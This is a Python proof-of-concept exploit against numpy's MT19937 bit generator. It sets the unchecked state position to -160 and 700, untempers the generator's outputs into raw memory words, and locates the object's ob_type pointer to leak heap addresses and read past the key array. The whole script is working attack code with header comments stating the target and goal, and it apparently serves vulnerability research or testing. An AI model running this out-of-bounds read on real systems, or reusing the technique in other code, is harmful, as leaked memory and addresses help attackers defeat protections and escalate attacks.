# source: numpy 1.24 numpy/random/_mt19937.pyx MT19937.state setter (key copied with a length check, pos stored unchecked) and mt19937.h mt19937_next32 (key[pos++], regenerates only when pos == 624)
# family: unchecked index in a bit generator's state (numpy.random state setters)
# goal: out-of-bounds memory read: set MT19937 state pos to -160 and read the words before the key array (the object's own header, found by its ob_type) and pos 700 past its end
import numpy as np

M32 = 0xFFFFFFFF
M64 = 0xFFFFFFFFFFFFFFFF


def untemper(y):
    # inverse of MT19937 tempering: turns an output back into the raw word read
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    t = y
    for _ in range(5):
        t = y ^ ((t << 7) & 0x9D2C5680)
    y = t & M32
    t = y
    for _ in range(3):
        t = y ^ (t >> 11)
    return t & M32


def type_address(cls):
    # a type's default hash is its address rotated right by 4 bits
    h = hash(cls) & M64
    return ((h << 4) | (h >> 60)) & M64


def report(words32, start, cls, what):
    q = [words32[i] | (words32[i + 1] << 32) for i in range(0, len(words32) - 1, 2)]
    ta = type_address(cls)
    for i, v in enumerate(q):
        if v == ta:
            print(what, ": read ob_type", hex(v), "(the", cls.__name__, "type) at key[%d]," % (start + 2 * i),
                  (len(q) - i) * 8, "bytes before the 624-word state array; ob_refcnt next to it =", q[i - 1])
            return
    print(what, ": words before key[0]:", [hex(v) for v in q[-8:]])


bg = np.random.MT19937(0)
key = bg.state["state"]["key"]
bg.state = {"bit_generator": "MT19937", "state": {"key": key, "pos": -160}}
words = [untemper(int(v)) for v in bg.random_raw(160)]
print("object", repr(bg))
report(words, -160, np.random.MT19937, "MT19937.state pos=-160")
bg.state = {"bit_generator": "MT19937", "state": {"key": key, "pos": 700}}
print("past key[623], from key[700]:", [hex(untemper(int(v))) for v in bg.random_raw(8)])
